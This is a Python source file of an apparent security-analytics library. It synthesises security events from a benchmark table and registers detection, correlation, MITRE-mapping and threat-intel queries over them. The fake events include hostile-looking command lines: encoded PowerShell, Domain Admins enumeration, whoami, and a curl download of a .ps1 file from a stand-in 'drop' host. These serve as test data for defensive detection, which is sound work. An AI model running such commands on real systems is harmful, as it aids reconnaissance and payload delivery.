"""The registered queries of the library over the driver's tables, and their SQL.

`EVENTS_SQL` maps the table ``events`` to security events; the same text runs
on Spark, where the operators take over, and at the head of every oracle.
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from socspark.functions import columns as C
from socspark.operators import chains, correlate, detect, enrich, findings, graph, techniques, views
from socspark.plans.schemas import NOTABLE_ACTIONS
from socspark.plans.storage import stored

EVENTS_SQL = """
SELECT 'ev-' || lpad(CAST(event_id AS VARCHAR(20)), 9, '0') AS event_id, ts AS timestamp,
  CASE event_type WHEN 'view' THEN 'dns' WHEN 'click' THEN 'endpoint' ELSE 'authentication' END AS event_type,
  CASE event_type WHEN 'error' THEN 'LOGIN_FAILURE' WHEN 'signup' THEN 'PRIVILEGED_LOGIN' WHEN 'purchase' THEN 'RDP_LOGIN' WHEN 'view' THEN 'DNS_QUERY'
    ELSE CASE WHEN k % 5 = 0 THEN 'POWERSHELL_EXEC' ELSE 'PROCESS_CREATE' END END AS action,
  CASE WHEN k % 10 <> 9 THEN 'user' || CAST(user_id % 40 AS VARCHAR(20)) END AS user,
  'HOST-' || CAST(CASE WHEN event_type IN ('error', 'signup', 'purchase') THEN (k + user_id) % 12 ELSE k % 12 END AS VARCHAR(20)) AS source_host,
  CASE WHEN event_type <> 'view' THEN 'HOST-' || CAST(k % 12 AS VARCHAR(20)) END AS destination_host,
  '10.0.' || CAST(k % 4 AS VARCHAR(20)) || '.' || CAST(user_id % 20 AS VARCHAR(20)) AS source_ip,
  CASE WHEN event_type IN ('error', 'signup', 'purchase') THEN '10.1.0.' || CAST(k % 12 AS VARCHAR(20)) END AS destination_ip,
  CASE WHEN event_type = 'click' THEN CASE WHEN k % 5 = 0 THEN 'powershell.exe' WHEN k % 7 = 0 THEN 'tool' || CAST(user_id % 30 AS VARCHAR(20)) || '.exe' ELSE 'app' || CAST(k % 9 AS VARCHAR(20)) || '.exe' END END AS process,
  CASE WHEN event_type = 'click' THEN CASE WHEN k % 6 = 0 THEN 'winword.exe' ELSE 'explorer.exe' END END AS parent_process,
  CASE WHEN event_type = 'click' THEN CASE WHEN k % 10 = 0 THEN 'powershell.exe -enc SQBFAFgA -nop' WHEN k % 11 = 0 THEN 'cmd.exe /c net group "Domain Admins"' WHEN k % 13 = 0 THEN 'whoami /all'
    WHEN k % 17 = 0 THEN 'curl http://files.site1.example.com/drop/a.ps1' ELSE 'app' || CAST(k % 9 AS VARCHAR(20)) || '.exe  --run ' || CAST(user_id % 5 AS VARCHAR(20)) END END AS command_line,
  CASE WHEN event_type = 'view' THEN CASE WHEN k % 9 = 0 THEN 'x7f3k9q2m1zz' || CAST(k % 3 AS VARCHAR(20)) || '.xyz' WHEN k % 4 = 0 THEN 'files' || CAST(k % 6 AS VARCHAR(20)) || '.corp.local' ELSE 'cdn.site' || CAST(k % 8 AS VARCHAR(20)) || '.example.com' END END AS domain,
  CAST(NULL AS VARCHAR(20)) AS file_name,
  CASE WHEN event_type IN ('error', 'signup', 'purchase') THEN CASE k % 3 WHEN 0 THEN 'Interactive' WHEN 1 THEN 'Network' ELSE 'RemoteInteractive (RDP)' END END AS logon_type,
  CASE WHEN event_type = 'error' THEN 'failure' ELSE 'success' END AS outcome,
  CASE WHEN value > 150 THEN 'high' WHEN value > 100 THEN 'medium' WHEN value > 50 THEN 'low' ELSE 'info' END AS severity,
  coalesce(value > 120, false) AS suspicious, CAST(NULL AS VARCHAR(20)) AS suppressed
FROM (SELECT *, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k FROM {events}) AS e
"""

EV = "ev AS (" + EVENTS_SQL.replace("{events}", "events") + ")"
RANK = "CASE severity WHEN 'info' THEN 0 WHEN 'low' THEN 1 WHEN 'medium' THEN 2 WHEN 'high' THEN 3 WHEN 'critical' THEN 4 END"
NOTABLE = f"(suspicious OR action IN ({', '.join(repr(a) for a in NOTABLE_ACTIONS)}) OR {RANK} >= 2)"
PRIMARY = "coalesce(destination_host, source_host)"
INTERNAL = "(domain LIKE '%.corp.local%' OR domain NOT LIKE '%.%')"
HOSTS = "list_distinct(list_filter([source_host, destination_host], lambda x: x IS NOT NULL))"

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
SQL: dict[str, str] = {}


def query(sql: str | None = None):
    """Registers a query under its function's name, with its SQL where there is one."""

    def add(f):
        QUERIES[f.__name__] = f
        if sql is not None:
            SQL[f.__name__] = sql
        return f

    return add


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def security_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The driver's events as normalised security events."""
    return as_security_events(table(spark, sf_dir, "events"))


def as_security_events(rows: DataFrame) -> DataFrame:
    """Rows of the table ``events``, or a stream of them, as security events."""
    rows = rows.sparkSession.sql(EVENTS_SQL, events=rows)
    nothing = lambda kind: F.lit(None).cast(kind)
    return rows.withColumns({"timestamp": F.col("timestamp").cast("timestamp"), "tags": F.array().cast("array<string>"), "source_log": F.lit("events"), "raw": nothing("string")})


@query(f"WITH {EV} SELECT event_id, {PRIMARY} AS primary_host, {NOTABLE} AS notable, array_to_string(list_sort({HOSTS}), ',') AS hosts FROM ev")
def notable_events(spark, sf_dir):
    return security_events(spark, sf_dir).select("event_id", C.primary_host().alias("primary_host"), C.is_notable().alias("notable"), F.array_join(F.array_sort(C.hosts()), ",").alias("hosts"))


DNS_SQL = f"""g AS (SELECT source_host, domain, count(*) AS n, (max(epoch_us(timestamp)) - min(epoch_us(timestamp))) / 1e6 AS span FROM ev WHERE domain IS NOT NULL AND NOT {INTERNAL} GROUP BY ALL HAVING count(*) >= 5 AND span <= {{span}})"""


@query(
    f"WITH {EV}, {DNS_SQL.format(span=600)} SELECT event_id, CASE WHEN n IS NOT NULL AND action = 'DNS_QUERY' THEN 'HIGH_VOLUME_DNS' ELSE action END AS action, suspicious OR n IS NOT NULL AS suspicious, CASE WHEN n IS NOT NULL AND {RANK} < 2 THEN 'medium' ELSE severity END AS severity, n IS NOT NULL AS beaconing FROM ev LEFT JOIN g USING (source_host, domain)"
)
def dns_volume(spark, sf_dir):
    out = enrich.dns_volume(security_events(spark, sf_dir))
    return out.select("event_id", "action", "suspicious", "severity", F.array_contains("tags", "beaconing").alias("beaconing"))


@query(
    f"WITH {EV}, {DNS_SQL.format(span=30 * 86400)} SELECT event_id, n IS NOT NULL AS beaconing FROM ev LEFT JOIN g USING (source_host, domain)"
)
def dns_volume_month(spark, sf_dir):
    from socspark.plans.config import DetectionConfig

    out = enrich.dns_volume(security_events(spark, sf_dir), DetectionConfig(dns_span_seconds=30 * 86400))
    return out.select("event_id", F.array_contains("tags", "beaconing").alias("beaconing"))


@query(
    f"""WITH {EV}, g AS (SELECT user, count(*) AS n, (max(epoch_us(timestamp)) - min(epoch_us(timestamp))) / 1e6 AS span, string_agg(DISTINCT destination_host, ', ' ORDER BY destination_host) AS targets FROM ev WHERE action = 'LOGIN_FAILURE' AND user IS NOT NULL GROUP BY user HAVING count(*) >= 3 AND span <= 2000000)
SELECT event_id, suspicious OR g.user IS NOT NULL AS suspicious, CASE WHEN g.user IS NOT NULL AND {RANK} < 2 THEN 'medium' ELSE severity END AS severity, CASE WHEN g.user IS NOT NULL THEN 'finding:' || n || ' failed logons for ' || ev.user || ' across ' || targets END AS finding
FROM ev LEFT JOIN g ON ev.user = g.user AND action = 'LOGIN_FAILURE'"""
)
def auth_failures(spark, sf_dir):
    from socspark.plans.config import DetectionConfig

    out = enrich.auth_failures(security_events(spark, sf_dir), DetectionConfig(failure_span_seconds=2_000_000))
    finding = F.filter("tags", lambda t: t.contains(" failed logons for "))
    return out.select("event_id", "suspicious", "severity", F.regexp_replace(F.try_element_at(finding, F.lit(1)), " within .*", "").alias("finding"))


@query(
    f"""WITH RECURSIVE {EV}, p AS (SELECT event_id, user, {PRIMARY} AS host, epoch_us(timestamp) AS us, row_number() OVER (PARTITION BY user, {PRIMARY} ORDER BY timestamp, event_id) AS n FROM ev WHERE action = 'PRIVILEGED_LOGIN' AND user IS NOT NULL),
walk AS (SELECT event_id, user, host, n, us AS kept, event_id AS keeper, false AS again FROM p WHERE n = 1
  UNION ALL SELECT p.event_id, p.user, p.host, p.n, CASE WHEN p.us - kept <= 14400000000 THEN kept ELSE p.us END, CASE WHEN p.us - kept <= 14400000000 THEN keeper ELSE p.event_id END, p.us - kept <= 14400000000 FROM walk JOIN p ON p.user = walk.user AND p.host = walk.host AND p.n = walk.n + 1)
SELECT ev.event_id, CASE WHEN action <> 'PRIVILEGED_LOGIN' THEN NULL WHEN ev.user IS NULL THEN 'routine: privileged logon with no named account (computer or system account)' WHEN again THEN 'repeat of ' || keeper || ' (same account and host within 240 minutes)' END AS suppressed
FROM ev LEFT JOIN walk ON ev.event_id = walk.event_id"""
)
def privileged_suppression(spark, sf_dir):
    from socspark.plans.config import DetectionConfig

    return enrich.suppress_privileged(security_events(spark, sf_dir), DetectionConfig(privileged_repeat_seconds=14400)).select("event_id", "suppressed")


COMMAND = "trim(regexp_replace(lower(coalesce(command_line, process, '')), '\\s+', ' ', 'g'))"


@query(
    f"""WITH {EV}, k AS (SELECT *, action IN ('RDP_LOGIN', 'SMB_AUTH', 'NETWORK_LOGON', 'PRIVILEGED_LOGIN', 'REMOTE_SERVICE_EXEC', 'LOGIN_SUCCESS', 'DISCOVERY_COMMAND') AND user IS NOT NULL AND {RANK} < 3 AS able, {COMMAND} AS cmd FROM ev),
d AS (SELECT user, action, {PRIMARY} AS host, cmd, count(DISTINCT CAST(timestamp AS DATE)) AS days FROM k WHERE able GROUP BY ALL HAVING count(DISTINCT CAST(timestamp AS DATE)) >= 3)
SELECT event_id, CASE WHEN able AND days IS NOT NULL THEN 'routine: same activity by ' || k.user || ' on ' || days || ' different days (behaviour baseline)' END AS suppressed FROM k LEFT JOIN d ON k.able AND d.user = k.user AND d.action = k.action AND d.host = coalesce(k.destination_host, k.source_host) AND d.cmd = k.cmd"""
)
def routine_days(spark, sf_dir):
    return enrich.mark_routine(security_events(spark, sf_dir)).select("event_id", "suppressed")


@query(
    f"""WITH {EV}, b AS (SELECT event_id, event_type, action, epoch_us(timestamp) AS us, hour(timestamp) AS h, user, {PRIMARY} AS host, source_host AS src, process AS proc, event_type = 'authentication' AND action <> 'LOGIN_FAILURE' AS logon FROM ev),
u AS (SELECT *, count(*) OVER w >= 20 AND us - min(us) OVER w >= 86400000000 AS learned, list(CASE WHEN logon THEN h END) OVER w AS hours FROM b WHERE user IS NOT NULL WINDOW w AS (PARTITION BY user ORDER BY us, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)),
s AS (SELECT DISTINCT user, us, event_id, unnest([host, src]) AS h FROM u WHERE logon),
f AS (SELECT user, h, arg_min(event_id, us::HUGEINT * 1000000 + CAST(substr(event_id, 4) AS BIGINT)::HUGEINT) AS first FROM s GROUP BY ALL),
x AS (SELECT *, count(*) OVER w >= 20 AND us - min(us) OVER w >= 86400000000 AS learned FROM b WINDOW w AS (PARTITION BY host ORDER BY us, event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)),
r AS (SELECT proc, arg_min(event_id, us::HUGEINT * 1000000 + CAST(substr(event_id, 4) AS BIGINT)::HUGEINT) AS first FROM x WHERE proc IS NOT NULL GROUP BY proc)
SELECT u.event_id, 'new-host' AS kind FROM u JOIN f ON u.user = f.user AND u.host = f.h AND f.first = u.event_id WHERE logon AND learned AND action IN ('RDP_LOGIN', 'PRIVILEGED_LOGIN')
UNION ALL SELECT event_id, 'unusual-hour' FROM u WHERE logon AND learned AND len(list_filter(hours, lambda z: z IS NOT NULL)) > 0 AND NOT list_has_any(list_filter(hours, lambda z: z IS NOT NULL), [h - 1, h, h + 1])
UNION ALL SELECT x.event_id, 'new-process' FROM x JOIN r ON x.event_id = r.first WHERE learned"""
)
def baseline_anomalies(spark, sf_dir):
    return enrich.baseline_anomalies(security_events(spark, sf_dir))


SHARE = "list_has_any(a.hs, b.hs)"
SCORE = f"""(0.0 + CASE WHEN a.user = b.user THEN 0.35 ELSE 0.0 END + CASE WHEN {SHARE} THEN 0.25 ELSE 0.0 END + CASE WHEN b.source_host = {"coalesce(a.destination_host, a.source_host)"} AND b.destination_host <> b.source_host THEN 0.40 ELSE 0.0 END
 + CASE WHEN list_has_any(a.ips, b.ips) THEN 0.20 ELSE 0.0 END + CASE WHEN a.process = b.process AND {SHARE} THEN 0.15 ELSE 0.0 END + CASE WHEN a.domain = b.domain THEN 0.15 ELSE 0.0 END + CASE WHEN {SHARE} AND a.suspicious AND b.suspicious THEN 0.25 ELSE 0.0 END)"""
PAIRS = f"""nt AS (SELECT *, epoch_us(timestamp) AS us, {HOSTS} AS hs, list_filter([source_ip, destination_ip], lambda x: x IS NOT NULL) AS ips FROM ev WHERE {NOTABLE}),
cand AS (SELECT a.event_id AS source_event_id, b.event_id AS target_event_id, CAST({SCORE} AS DOUBLE) AS sub, b.us - a.us AS du FROM nt a JOIN nt b ON b.us BETWEEN a.us AND a.us + 1800000000 AND (a.us < b.us OR a.event_id < b.event_id)
  WHERE a.user = b.user OR a.domain = b.domain OR {SHARE} OR list_has_any(a.ips, b.ips)),
links AS (SELECT source_event_id, target_event_id, least(1.0, sub + CAST(0.25 AS DOUBLE) * (1.0 - (du / 1e6) / 1800)) AS raw FROM cand WHERE sub > 0 AND least(1.0, sub + CAST(0.25 AS DOUBLE) * (1.0 - (du / 1e6) / 1800)) >= 0.7)"""


@query(f"WITH {EV}, {PAIRS} SELECT source_event_id, target_event_id, round(raw, 4) AS score FROM links")
def correlate_pairs(spark, sf_dir):
    return correlate.correlate_pairs(security_events(spark, sf_dir)).select("source_event_id", "target_event_id", "score")


@query(
    f"""WITH {EV}, {PAIRS}, ky AS (SELECT *, row_number() OVER (PARTITION BY key ORDER BY us, event_id) AS n FROM (SELECT event_id, us, unnest(list_concat(list_transform(hs, lambda x: 'host:' || x), list_transform(list_distinct(ips), lambda x: 'ip:' || x), list_filter(['user:' || "user", 'domain:' || domain], lambda x: x IS NOT NULL))) AS key FROM nt)),
nb AS (SELECT DISTINCT a.event_id AS source_event_id, b.event_id AS target_event_id, b.us - a.us AS du FROM ky a JOIN ky b ON a.key = b.key AND a.n BETWEEN b.n - 30 AND b.n - 1),
bl AS (SELECT *, round(raw, 4) AS score FROM links JOIN nb USING (source_event_id, target_event_id))
SELECT source_event_id, target_event_id, score FROM (SELECT *, row_number() OVER (PARTITION BY target_event_id ORDER BY score DESC, du, source_event_id DESC) AS k FROM bl) WHERE k <= 10"""
)
def correlate_bounded(spark, sf_dir):
    return correlate.correlate_bounded(security_events(spark, sf_dir)).select("source_event_id", "target_event_id", "score")


MOVES = f"""al AS (SELECT *, epoch_us(timestamp) AS us, {HOSTS} AS hs, list_filter([source_ip, destination_ip], lambda x: x IS NOT NULL) AS ips FROM ev),
mp AS (SELECT b.event_id, a.event_id AS support, b.user, b.source_host, b.destination_host, b.action AS method, a.us AS aus, b.us AS bus, round(least(1.0, CAST({SCORE} AS DOUBLE) + CAST(0.25 AS DOUBLE) * (1.0 - ((b.us - a.us) / 1e6) / 1800)), 4) AS score
  FROM al b JOIN al a ON list_contains(a.hs, b.source_host) AND a.us BETWEEN b.us - 600000000 AND b.us AND a.event_id <> b.event_id
  WHERE a.suspicious AND b.action IN ('RDP_LOGIN', 'SMB_AUTH', 'NETWORK_LOGON', 'PRIVILEGED_LOGIN', 'REMOTE_SERVICE_EXEC') AND b.outcome <> 'failure' AND b.source_host <> b.destination_host),
m1 AS (SELECT *, row_number() OVER (PARTITION BY event_id ORDER BY score DESC, aus, support DESC) AS n FROM mp WHERE score >= 0.7),
mv AS (SELECT * FROM (SELECT *, row_number() OVER (PARTITION BY coalesce(user, ''), source_host, destination_host ORDER BY score DESC, bus, event_id) AS k FROM m1 WHERE n = 1) WHERE k = 1)"""


@query(f"WITH {EV}, {MOVES} SELECT event_id, support AS supporting_event_id, user, source_host, destination_host, method, score AS correlation_score FROM mv")
def lateral_movement(spark, sf_dir):
    return correlate.lateral_movement(security_events(spark, sf_dir)).select("event_id", "supporting_event_id", "user", "source_host", "destination_host", "method", "correlation_score")


COMPONENTS = f"""{EV}, {PAIRS}, both_ AS (SELECT source_event_id AS n, target_event_id AS m FROM links UNION SELECT target_event_id, source_event_id FROM links),
reach AS (SELECT n, n AS m FROM both_ UNION SELECT reach.n, both_.m FROM reach JOIN both_ ON reach.m = both_.n),
comp AS (SELECT n AS event_id, min(m) AS chain_key FROM reach GROUP BY n),
good AS (SELECT chain_key FROM comp JOIN ev USING (event_id) GROUP BY chain_key HAVING bool_or(suspicious OR event_type <> 'authentication')),
mem AS (SELECT event_id, chain_key FROM comp JOIN good USING (chain_key))"""


@query(f"WITH RECURSIVE {COMPONENTS} SELECT event_id, chain_key FROM mem")
def chain_components(spark, sf_dir):
    events = stored(security_events(spark, sf_dir), "events")
    return chains.chain_members(events, correlate.connecting_links(events)).select("event_id", "chain_key")


TECHNIQUES = """tq AS (SELECT event_id, 'T1059.001' AS technique, 'TA0002' AS tactic, 'high' AS confidence FROM ev WHERE action = 'POWERSHELL_EXEC'
 UNION ALL SELECT event_id, 'T1027', 'TA0005', 'medium' FROM ev WHERE command_line LIKE '%-enc%' OR command_line LIKE '%hidden%'
 UNION ALL SELECT event_id, 'T1033', 'TA0007', 'medium' FROM ev WHERE command_line LIKE '%whoami%'
 UNION ALL SELECT event_id, 'T1069.002', 'TA0007', 'medium' FROM ev WHERE command_line LIKE '%net group%'
 UNION ALL SELECT event_id, 'T1021.001', 'TA0008', 'high' FROM ev WHERE action = 'RDP_LOGIN' AND source_host <> destination_host
 UNION ALL SELECT event_id, 'T1078', 'TA0004', 'medium' FROM ev WHERE action = 'PRIVILEGED_LOGIN')"""


@query(f"WITH {EV}, {TECHNIQUES} SELECT event_id, technique, tactic, confidence FROM tq")
def technique_mapping(spark, sf_dir):
    return techniques.map_techniques(security_events(spark, sf_dir))


@query(f"WITH {EV}, {TECHNIQUES} SELECT tactic, technique, count(*) AS occurrences, count(DISTINCT event_id) AS events FROM tq GROUP BY ALL")
def mitre_matrix(spark, sf_dir):
    return views.mitre_matrix(techniques.map_techniques(security_events(spark, sf_dir)))


@query(
    f"""WITH RECURSIVE {COMPONENTS}, {MOVES}, {TECHNIQUES}, ce AS (SELECT ev.*, chain_key, epoch_us(timestamp) AS us FROM ev JOIN mem USING (event_id)),
tac AS (SELECT chain_key, count(DISTINCT tactic) AS n, bool_or(tactic = 'TA0008') AS moved FROM tq JOIN mem USING (event_id) GROUP BY chain_key),
lk AS (SELECT chain_key, count(*) AS n FROM links JOIN mem ON mem.event_id = source_event_id GROUP BY chain_key),
lm AS (SELECT chain_key, count(*) AS n FROM mv JOIN mem USING (event_id) GROUP BY chain_key),
hr AS (SELECT chain_key, event_type, outcome, source_host, destination_host FROM ce),
rc AS (SELECT DISTINCT chain_key, h FROM (SELECT chain_key, source_host AS h FROM hr WHERE event_type = 'authentication' UNION SELECT chain_key, destination_host FROM hr WHERE event_type = 'authentication' AND outcome <> 'failure' UNION SELECT chain_key, {PRIMARY} FROM hr WHERE event_type <> 'authentication') WHERE h IS NOT NULL),
tg AS (SELECT DISTINCT chain_key, destination_host AS h FROM hr WHERE event_type = 'authentication' AND outcome = 'failure' EXCEPT SELECT chain_key, h FROM rc),
agg AS (SELECT chain_key, count(*) AS event_count, min(us) AS first_us, max(us) AS last_us, string_agg(DISTINCT user, ',' ORDER BY user) AS users, arg_min({PRIMARY}, us) AS initial_host FROM ce GROUP BY chain_key)
SELECT chain_key, CAST(least(100, 15 + least(20, 5 * coalesce(tac.n, 0)) + CASE WHEN coalesce(moved, false) OR coalesce(lm.n, 0) > 0 THEN 20 ELSE 0 END) AS INT) AS risk, event_count, coalesce(lk.n, 0) AS link_count, coalesce(lm.n, 0) AS lateral_count, first_us, last_us, coalesce(users, '') AS users, initial_host,
 (SELECT coalesce(string_agg(h, ',' ORDER BY h), '') FROM rc WHERE rc.chain_key = agg.chain_key) AS reached, (SELECT coalesce(string_agg(h, ',' ORDER BY h), '') FROM tg WHERE tg.chain_key = agg.chain_key) AS targeted
FROM agg LEFT JOIN tac USING (chain_key) LEFT JOIN lk USING (chain_key) LEFT JOIN lm USING (chain_key)"""
)
def attack_chains(spark, sf_dir):
    out = chains.build_chains(security_events(spark, sf_dir))["chains"]
    text = lambda c: F.array_join(c, ",").alias(c)
    return out.select("chain_key", "risk", "event_count", "link_count", "lateral_count", "first_us", "last_us", text("users"), "initial_host", text("reached"), text("targeted"))


EDGES = f"""ed AS (SELECT src, dst, kind, count(*) AS weight FROM (
 SELECT 'event:' || event_id AS src, 'host:' || {PRIMARY} AS dst, 'OCCURRED_ON' AS kind FROM ev
 UNION ALL SELECT 'event:' || event_id, 'user:' || user, 'INVOLVES' FROM ev
 UNION ALL SELECT 'event:' || event_id, 'ip:' || source_ip, 'INVOLVES' FROM ev
 UNION ALL SELECT 'event:' || event_id, 'ip:' || destination_ip, 'INVOLVES' FROM ev WHERE destination_ip <> source_ip
 UNION ALL SELECT 'user:' || user, 'host:' || destination_host, 'LOGGED_INTO' FROM ev WHERE event_type = 'authentication'
 UNION ALL SELECT 'host:' || source_host, 'host:' || destination_host, 'CONNECTED_TO' FROM ev WHERE event_type = 'authentication' AND source_host <> destination_host
 UNION ALL SELECT 'host:' || {PRIMARY}, 'domain:' || domain, 'RESOLVED' FROM ev
 UNION ALL SELECT 'host:' || {PRIMARY}, 'process:' || process || '@' || {PRIMARY}, 'EXECUTED' FROM ev
 UNION ALL SELECT 'user:' || user, 'process:' || process || '@' || {PRIMARY}, 'EXECUTED' FROM ev
 UNION ALL SELECT 'process:' || parent_process || '@' || {PRIMARY}, 'process:' || process || '@' || {PRIMARY}, 'EXECUTED' FROM ev) WHERE src IS NOT NULL AND dst IS NOT NULL GROUP BY ALL)"""


@query(f"WITH {EV}, {EDGES} SELECT src, dst, kind, weight FROM ed")
def entity_edges(spark, sf_dir):
    return graph.entity_edges(security_events(spark, sf_dir))


@query(f"WITH {EV}, {EDGES} SELECT DISTINCT id, split_part(id, ':', 1) AS kind FROM (SELECT src AS id FROM ed UNION ALL SELECT dst FROM ed)")
def entity_nodes(spark, sf_dir):
    return graph.entity_nodes(graph.entity_edges(security_events(spark, sf_dir)))


TRADE = "pr AS (SELECT DISTINCT 's' || l_suppkey AS a, 'c' || o_custkey AS b FROM lineitem JOIN orders ON l_orderkey = o_orderkey)"


def _trade(spark, sf_dir) -> tuple[DataFrame, DataFrame]:
    """Suppliers and customers as two kinds of nodes, linked by order lines."""
    lines = table(spark, sf_dir, "lineitem").select("l_orderkey", F.concat(F.lit("s"), "l_suppkey").alias("src"))
    orders = table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("l_orderkey"), F.concat(F.lit("c"), "o_custkey").alias("dst"))
    pairs = stored(lines.join(orders, "l_orderkey").select("src", "dst").distinct(), "trade")
    edges = pairs.withColumn("kind", F.lit("CONNECTED_TO"))
    hosts = edges.select(F.explode(F.array("src", "dst")).alias("id")).distinct()
    return graph.host_projection(edges, hosts), hosts


@query(f"WITH {TRADE}, dg AS (SELECT id, count(DISTINCT o) AS degree FROM (SELECT a AS id, b AS o FROM pr UNION ALL SELECT b, a FROM pr) GROUP BY id) SELECT id, degree, round(degree / (SELECT max(degree) FROM dg), 6) AS score FROM dg")
def connectivity_scores(spark, sf_dir):
    return graph.connectivity(*_trade(spark, sf_dir))


@query(
    f"""WITH RECURSIVE {TRADE}, bo AS (SELECT a AS x, b AS y FROM pr UNION SELECT b, a FROM pr), w AS (SELECT 's1' AS id, 0 AS hops WHERE EXISTS (SELECT 1 FROM bo WHERE x = 's1') UNION SELECT y, hops + 1 FROM w JOIN bo ON x = id WHERE hops < 8)
SELECT 's1' AS start, id, min(hops) AS hops FROM w GROUP BY id"""
)
def hops_from_start(spark, sf_dir):
    projection, hosts = _trade(spark, sf_dir)
    return graph.hops(projection, hosts.where("id = 's1'"))


@query(f"WITH {EV} SELECT host, count(*) AS events, count(*) FILTER (WHERE suspicious) AS suspicious, min(us) AS first_us, max(us) AS last_us, count(DISTINCT user) AS users FROM (SELECT unnest({HOSTS}) AS host, suspicious, epoch_us(timestamp) AS us, user FROM ev) GROUP BY host")
def host_views(spark, sf_dir):
    return views.host_views(security_events(spark, sf_dir)).drop("chains")


@query(f"WITH {EV} SELECT user, count(*) AS events, count(*) FILTER (WHERE suspicious) AS suspicious, count(*) FILTER (WHERE action = 'LOGIN_FAILURE') AS failed_logons, min(epoch_us(timestamp)) AS first_us, max(epoch_us(timestamp)) AS last_us, (SELECT string_agg(DISTINCT h, ',' ORDER BY h) FROM (SELECT user AS u2, unnest({HOSTS}) AS h FROM ev) z WHERE z.u2 = ev.user) AS hosts FROM ev WHERE user IS NOT NULL GROUP BY user")
def user_views(spark, sf_dir):
    return views.user_views(security_events(spark, sf_dir)).withColumn("hosts", F.array_join("hosts", ","))


@query(
    f"""WITH RECURSIVE {COMPONENTS}, n AS (SELECT count(*) AS raw, count(*) FILTER (WHERE {NOTABLE}) AS notable, count(chain_key) AS correlated, count(*) FILTER (WHERE {NOTABLE} AND chain_key IS NULL) AS unabsorbed, count(DISTINCT chain_key) AS chains FROM ev LEFT JOIN mem USING (event_id))
SELECT *, CASE WHEN chains > 0 AND notable > 0 THEN round(1 - chains / notable, 4) ELSE 0.0 END AS reduction FROM n"""
)
def alert_funnel(spark, sf_dir):
    events = stored(security_events(spark, sf_dir), "events")
    return views.funnel(events, chains.chain_members(events, correlate.connecting_links(events)))


@query(f"WITH {EV} SELECT event_id, action, domain FROM ev WHERE event_type = 'dns' AND (source_host = 'HOST-3' OR destination_host = 'HOST-3') AND {NOTABLE}")
def search_events(spark, sf_dir):
    return views.search_events(security_events(spark, sf_dir), event_type="dns", host="host-3", notable_only=True).select("event_id", "action", "domain")


@query(f"WITH {EV} SELECT event_id FROM ev WHERE list_bool_or(list_transform([action, user, source_host, destination_host, process, domain], lambda x: coalesce(lower(x) LIKE '%site1%', false)))")
def search_text(spark, sf_dir):
    return views.search_text(security_events(spark, sf_dir), "SITE1").select("event_id")


@query(f"WITH {EV} SELECT event_id FROM ev WHERE epoch_us(timestamp) >= (SELECT max(epoch_us(timestamp)) FROM ev) - 86400000000")
def recent_activity(spark, sf_dir):
    return views.recent_activity(security_events(spark, sf_dir), 1440).select("event_id")


@query(f"WITH {EV} SELECT event_id, user FROM (SELECT *, row_number() OVER (PARTITION BY user ORDER BY timestamp DESC, event_id DESC) AS n FROM ev) WHERE n <= 20")
def keep_newest(spark, sf_dir):
    return views.keep_newest(security_events(spark, sf_dir), 20, ["user"]).select("event_id", "user")


@query(f"WITH {EV} SELECT event_id FROM ev WHERE NOT suspicious")
def dedupe_known(spark, sf_dir):
    events = security_events(spark, sf_dir)
    return views.dedupe_known(events.unionByName(events), events.where("suspicious")).select("event_id")


@query(f"WITH {EV} SELECT domain, count(*) AS queries, min(epoch_us(timestamp)) AS first_us FROM ev WHERE domain IS NOT NULL GROUP BY domain")
def dns_first_seen(spark, sf_dir):
    return views.first_seen(security_events(spark, sf_dir))


@query(f"WITH {EV} SELECT ip, host, count(*) AS n FROM (SELECT source_ip AS ip, source_host AS host FROM ev UNION ALL SELECT destination_ip, destination_host FROM ev) WHERE ip IS NOT NULL AND host IS NOT NULL GROUP BY ALL HAVING count(*) >= 5")
def ip_host_pairs(spark, sf_dir):
    return views.ip_host_pairs(security_events(spark, sf_dir))


@query(f"WITH {EV}, c AS (SELECT source_host AS a, destination_host AS b FROM ev WHERE event_type = 'authentication' AND source_host <> destination_host GROUP BY ALL HAVING count(*) >= 3) SELECT host, string_agg(DISTINCT peer, ',' ORDER BY peer) AS peers FROM (SELECT a AS host, b AS peer FROM c UNION SELECT b, a FROM c) GROUP BY host")
def reachability(spark, sf_dir):
    return views.reachability(security_events(spark, sf_dir)).withColumn("peers", F.array_join("peers", ","))


@query(f"WITH {EV} SELECT user, string_agg(DISTINCT {PRIMARY}, ',' ORDER BY {PRIMARY}) AS hosts, false AS privileged FROM ev WHERE user IS NOT NULL AND (event_type = 'endpoint' OR (event_type = 'authentication' AND outcome <> 'failure')) GROUP BY user")
def entitlements(spark, sf_dir):
    return views.entitlements(security_events(spark, sf_dir)).withColumn("hosts", F.array_join("hosts", ","))


INDICATORS = "ind AS (SELECT DISTINCT 'domain' AS kind, domain AS value FROM ev WHERE domain LIKE '%.xyz' UNION SELECT 'domain', 'site1.example.com' UNION SELECT DISTINCT 'ip', source_ip FROM ev WHERE suspicious AND user = 'user7' UNION SELECT 'url', 'http://files.site1.example.com/drop')"


@query(
    f"""WITH {EV}, {INDICATORS} SELECT event_id, 'domain' AS kind, value FROM ev JOIN ind ON kind = 'domain' AND (domain = value OR domain LIKE '%.' || value)
UNION ALL SELECT event_id, 'ip', value FROM ev JOIN ind ON kind = 'ip' AND (source_ip = value OR destination_ip = value)
UNION ALL SELECT event_id, 'url', value FROM ev JOIN ind ON kind = 'url' AND contains(lower(command_line), value)"""
)
def match_intel(spark, sf_dir):
    events = security_events(spark, sf_dir)
    fixed = spark.createDataFrame([("domain", "site1.example.com"), ("url", "http://files.site1.example.com/drop")], "kind string, value string")
    found = events.where(F.col("domain").endswith(".xyz")).select(F.lit("domain").alias("kind"), F.col("domain").alias("value"))
    addresses = events.where("suspicious and user = 'user7'").select(F.lit("ip").alias("kind"), F.col("source_ip").alias("value"))
    return detect.match_intel(events, found.union(addresses).union(fixed).distinct().withColumn("description", F.lit("listed")))


